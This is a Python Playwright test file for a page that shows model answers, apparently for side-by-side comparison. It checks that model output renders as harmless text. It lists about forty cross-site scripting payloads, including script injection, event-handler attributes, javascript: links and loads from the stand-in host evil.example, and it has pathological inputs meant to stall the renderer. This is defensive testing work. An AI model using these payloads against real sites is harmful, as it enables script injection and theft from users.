"""Whatever a model writes, it is text."""

from __future__ import annotations

import pytest
from playwright.sync_api import Error, expect

from tests.page.answers import cut, saying
from tests.page.daemon import HeldDaemon
from tests.page.visitor import Visitor

EVIL = "http://evil.example"
VECTORS = [
    "<script>window.hit = 1</script>",
    f"<script src={EVIL}/a.js></script>",
    "<img src=x onerror='window.hit=2'>",
    f"![picture]({EVIL}/track.png)",
    f'![picture]({EVIL}/track.png "title" onerror=window.hit=3)',
    "<svg onload=window.hit=4><animate onbegin=window.hit=5 attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=window.hit=6></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.hit=7>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=8>'></noscript>",
    "<template><script>window.hit = 9</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=10>",
    "<iframe srcdoc='<script>parent.hit = 11</script>'></iframe>",
    f"<iframe src={EVIL}></iframe><object data={EVIL}></object><embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}/a.css><style>@import '{EVIL}/b.css'; body {{ display: none }}</style>",
    f"</style></textarea></title></div><base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}'>",
    "<body onload=window.hit=12><input autofocus onfocus=window.hit=13><details open ontoggle=window.hit=14>",
    "[click](javascript:window.hit=15)",
    "[click](JaVaScRiPt:window.hit=16 'title')",
    "[click](&#106;avascript&colon;window.hit=17)",
    "[click](java\tscript:window.hit=18)",
    "[click](<java\nscript:window.hit=18>)",
    "[click](\x01javascript:window.hit=19)",
    "[click](data:text/html,<script>opener.hit=20</script>)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](blob:x) [click](//evil.example/x) [click](/admin/pool)",
    '[click](http://ok.example/"onmouseover="window.hit=21)',
    "<javascript:window.hit=22>",
    "[ref]\n\n[ref]: javascript:window.hit=23 'x'",
    '[a](<http://ok.example/x>"onclick=window.hit=24)',
    "<a href='javascript:window.hit=25' onclick=window.hit=26>click</a>",
    "```html\n<script>window.hit = 27</script>\n</code></pre><img src=x onerror=window.hit=28>\n```",
    '```"><img src=x onerror=window.hit=29>\nx\n```',
    "`<img src=x onerror=window.hit=30>` &lt;script&gt;window.hit=31&lt;/script&gt;",
    "| a | b |\n|--|--|\n| <img src=x onerror=window.hit=32> | [x](javascript:window.hit=33) |",
    "- <img src=x onerror=window.hit=34>\n- [ ] <script>window.hit=35</script>",
    "# <img src=x onerror=window.hit=36>\n\n> <script>window.hit=37</script>",
    "*a <img src=x onerror=window.hit=38>* **<b onclick=window.hit=39>x</b>** ~~<script>~~",
    'https://ok.example/?<script>window.hit=40</script> www.ok.example"onclick=x me@ok.example',
    "<!--><img src=x onerror=window.hit=41>--> <![CDATA[<img src=x onerror=window.hit=42>]]>",
    "<br onclick=window.hit=43> <br>",
    "\u202e<script>\u0000window.hit=44</script>\ufeff",
]
HOSTILE = "\n\n".join(VECTORS)
# All that an answer is ever made of, the page's own parts (copy buttons) included.
HARMLESS = {
    *("p", "span", "div", "a", "strong", "em", "del", "code", "pre", "br", "hr", "blockquote", "ul", "ol", "li"),
    *("h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "button"),
}
ATTRIBUTES = {"class", "href", "title", "target", "rel", "start", "type", "aria-label"}
FOUND = """element => [...element.querySelectorAll("*")].map(e => ({
    tag: e.localName, names: e.getAttributeNames(), href: e.getAttribute("href"), rel: e.rel, target: e.target,
}))"""


def test_an_answer_full_of_tricks_does_nothing(visitor: Visitor, daemon: HeldDaemon) -> None:
    daemon.engines(lambda e: setattr(e, "reply", saying(cut(HOSTILE, 7))))
    visitor.visit()
    visitor.ask(HOSTILE)
    expect(visitor.button("A is better")).to_be_visible()
    for side in "ab":
        body = visitor.answer(side).locator(".text")
        for written in ("<script>window.hit = 1</script>", "<svg onload=", "<iframe srcdoc", "[image: picture]"):
            expect(body).to_contain_text(written)
        found = body.evaluate(FOUND)
        assert {f["tag"] for f in found} <= HARMLESS
        assert {name for f in found for name in f["names"]} <= ATTRIBUTES
        links = [f for f in found if f["tag"] == "a"]
        assert links
        assert all(f["href"].startswith(("http://", "https://", "mailto:")) for f in links)
        assert all((f["target"], f["rel"]) == ("_blank", "noopener noreferrer nofollow") for f in links)
        for trap in body.get_by_text("click", exact=True).all():
            if not trap.evaluate("e => e.closest('a')"):
                trap.click()
    visitor.button("Tie").click()
    expect(visitor.page.get_by_role("heading", name="A was")).to_be_visible()
    visitor.page.reload()
    expect(visitor.page.get_by_role("heading", name="A was")).to_be_visible()
    assert visitor.page.evaluate("window.hit") is None
    assert not visitor.faults


def test_the_browser_takes_no_markup_from_the_page(visitor: Visitor) -> None:
    visitor.visit()
    with pytest.raises(Error, match="TrustedHTML"):
        visitor.page.evaluate("document.body.innerHTML = '<b>x</b>'")
    with pytest.raises(Error, match=r"unsafe-eval|TrustedScript"):
        visitor.page.evaluate("setTimeout('window.hit = 1')")
    with pytest.raises(Error):
        visitor.page.evaluate(f"fetch('{EVIL}')")
    visitor.faults.clear()


# Rendered as it grows, and in one piece.
BOTH_WAYS = """async ([text, length]) => {
    const { Rendering } = await import("/web/rendering.js");
    const shown = (pieces, pause) => {
        const root = document.createElement("div");
        const rendering = new Rendering(root, (change) => change());
        for (const piece of pieces) { rendering.append(piece); if (pause) rendering.finish(); }
        rendering.finish();
        return root.innerHTML;
    };
    const pieces = [];
    for (let i = 0; i < text.length; i += length) pieces.push(text.slice(i, i + length));
    return [shown(pieces, true), shown([text], false)];
}"""
SAMPLE = """Intro with [a link][ref]
Second line\r\nThird

Heading
=======

1. one

   more of one
2. two
   - deep
   - deeper

     ```py
     x = 1
     ```

| a | b |
|---|:-:|
| 1 | `2` |

~~~
fenced

    not indented
~~~

> quoted
lazily

- loose

- list

***

    indented code

End &amp; &copy; &nosuch; &#65;.
"""
DEFINITION = "\n[ref]: https://ok.example/ref\n"


def test_what_grew_looks_as_if_it_had_come_in_one_piece(visitor: Visitor) -> None:
    visitor.visit()
    # With a definition at the end, all is made anew: without one, it has to be right as it grew.
    for text, length in ((SAMPLE, 1), (SAMPLE, 13), (SAMPLE + DEFINITION, 7), (HOSTILE, 5)):
        grown, whole = visitor.page.evaluate(BOTH_WAYS, [text, length])
        assert grown == whole
        assert ('href="https://ok.example/ref"' in grown) == (DEFINITION in text)


ENDLESS = ("_a*" * 5_000, ">" * 20_000, "> - " * 5_000, "[" * 20_000, "word " * 40_000, "```\n" + "line\n" * 20_000)


def test_no_text_stops_the_page(visitor: Visitor) -> None:
    visitor.visit()
    for text in ENDLESS:
        took_ms, shown = visitor.page.evaluate(
            """async (text) => {
                const { Rendering } = await import("/web/rendering.js");
                const root = document.createElement("div");
                const began = performance.now();
                const rendering = new Rendering(root, (change) => change());
                rendering.append(text);
                rendering.finish();
                return [performance.now() - began, root.textContent.replace(/\\s/g, "").length];
            }""",
            text,
        )
        # Under 1 s each where nothing else runs; in one piece, the first would take marked 4 s.
        assert took_ms < 10_000, text[:10]
        assert shown, text[:10]
